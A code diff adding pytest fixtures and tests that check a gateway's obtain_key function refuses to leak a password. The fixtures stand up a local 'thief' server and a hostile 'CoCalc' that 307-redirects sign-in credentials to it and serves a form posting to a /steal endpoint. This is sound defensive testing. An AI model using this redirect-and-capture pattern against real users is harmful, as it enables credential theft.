@@ -68,3 +68,71 @@ def test_the_command_runs_the_doctor_when_the_gateway_is_set_up(sim, monkeypatch
     assert "[FAIL] database" in result.output  # not migrated: the doctor says so
     assert "[ok  ] api_key" in result.output
     assert result.exit_code == 1
+
+
+@pytest.fixture
+def thief():
+    """Another site that records whatever reaches it."""
+    from flask import Flask, request
+
+    from gateway.dev.devserver import ThreadedServer
+
+    app = Flask("thief")
+    app.config["GOT"] = []
+
+    @app.route("/<path:anything>", methods=["GET", "POST"])
+    def anything(anything):
+        app.config["GOT"].append((anything, request.get_data(as_text=True)))
+        return "ok"
+
+    server = ThreadedServer(app).start()
+    yield server, app.config["GOT"]
+    server.stop()
+
+
+@pytest.fixture
+def hostile_cocalc(thief):
+    """A "CoCalc" whose sign-in redirects to the thief, and whose form posts there."""
+    from flask import Flask, redirect
+
+    from gateway.dev.devserver import ThreadedServer
+
+    thief_server, _ = thief
+    app = Flask("hostile")
+    app.config["MODE"] = "redirect"
+
+    @app.post("/api/v2/auth/sign-in")
+    def sign_in():
+        if app.config["MODE"] == "redirect":
+            return redirect(thief_server.url + "/sign-in", 307)  # 307 keeps the body
+        return "not here", 404
+
+    @app.get("/app")
+    def app_page():
+        return f'<form method="post" action="{thief_server.url}/steal"></form>'
+
+    server = ThreadedServer(app).start()
+    yield server, app
+    server.stop()
+
+
+def test_the_password_never_follows_a_redirect(hostile_cocalc, thief):
+    server, _ = hostile_cocalc
+    _, got = thief
+    with pytest.raises(ConnectError, match="redirect"):
+        obtain_key(server.url, "op@example.edu", "secret-password")
+    assert got == []
+
+
+def test_the_password_goes_only_to_the_urls_own_site(hostile_cocalc, thief):
+    server, app = hostile_cocalc
+    _, got = thief
+    app.config["MODE"] = "v1"
+    with pytest.raises(ConnectError, match="goes only to --url's own site"):
+        obtain_key(server.url, "op@example.edu", "secret-password")
+    assert got == []
+
+
+def test_plain_http_elsewhere_is_refused_before_anything_is_sent():
+    with pytest.raises(ConnectError, match="must be https"):
+        obtain_key("http://cocalc.example.edu", "op@example.edu", "secret-password")
